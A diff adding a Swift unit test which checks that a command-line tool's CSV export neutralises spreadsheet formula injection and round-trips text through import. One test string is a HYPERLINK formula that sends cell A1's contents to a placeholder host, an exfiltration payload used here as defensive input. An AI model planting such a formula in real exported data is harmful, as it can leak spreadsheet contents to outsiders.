@@ -93,6 +93,41 @@ final class SpreadsheetTests: CLITestCase {
         XCTAssertEqual(try replica.digest(), before)
     }
 
+    /// A text a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
+    /// CR) is exported behind an apostrophe, which spreadsheets read as "this is text" and do not
+    /// show, in both dialects; numbers stay numbers; import-csv takes the apostrophe off again, so
+    /// every text round-trips (importing the export changes nothing), one that already starts
+    /// with apostrophes included.
+    func testTextsASpreadsheetWouldRunAsFormulasAreExportedAsTextAndRoundTrip() throws {
+        let replica = try makeReplica("nord", team: "nord")
+        let texts = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Aide\")", "+33 6 39 98 12 34", "- courses", "@Lyon", "\tcourses",
+                     "'=1+1", "''@x", "'apostrophe", "Courses = pain"]
+        var ids: [String: String] = [:]
+        for text in texts {
+            ids[text] = try replica.addOffer("--details", text, "--lat", "-45.5", "--lon", "-0.25")
+        }
+        for excel in [false, true] {
+            let exported = try replica.run(["export-csv", "offer"] + (excel ? ["--excel"] : []))
+            XCTAssertEqual(exported.status, 0, exported.err)
+            let separator = excel ? ";" : ","
+            for (text, id) in ids {
+                let row = try XCTUnwrap(exported.out.split(separator: excel ? "\r\n" : "\n").first { $0.hasPrefix(id) }, text)
+                let guarded = ["=", "+", "-", "@", "\t"].contains(text.drop { $0 == "'" }.prefix(1))
+                var cell = (guarded ? "'" : "") + text
+                if cell.contains(",") || cell.contains(";") || cell.contains("\"") { cell = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
+                XCTAssertTrue(row.contains(separator + cell + separator), "\(text) in \(row)")
+                XCTAssertTrue(row.contains(excel ? #";"-45,5";"-0,25";"# : ",-45.5,-0.25,"), "numbers stay numbers: \(row)")
+            }
+            let file = path(excel ? "excel.csv" : "standard.csv")
+            try Data(exported.out.utf8).write(to: URL(fileURLWithPath: file))
+            XCTAssertEqual(try replica.ok("import-csv", "offer", file),
+                           "imported \(texts.count) rows into offer: 0 added, 0 updated, \(texts.count) unchanged", "round-trips")
+            for (text, id) in ids {
+                XCTAssertEqual(try JSON.object(try replica.json("show", id))["details"] as? String, text)
+            }
+        }
+    }
+
     func testRowWithAKnownIDUpdatesOnlyItsCellsAndAnEmptyCellClears() throws {
         let replica = try makeReplica("nord", team: "nord")
         let id = try replica.addOffer("--phone", "06 39 98 12 34", "--address", "12 rue Mercière, 69002 Lyon")
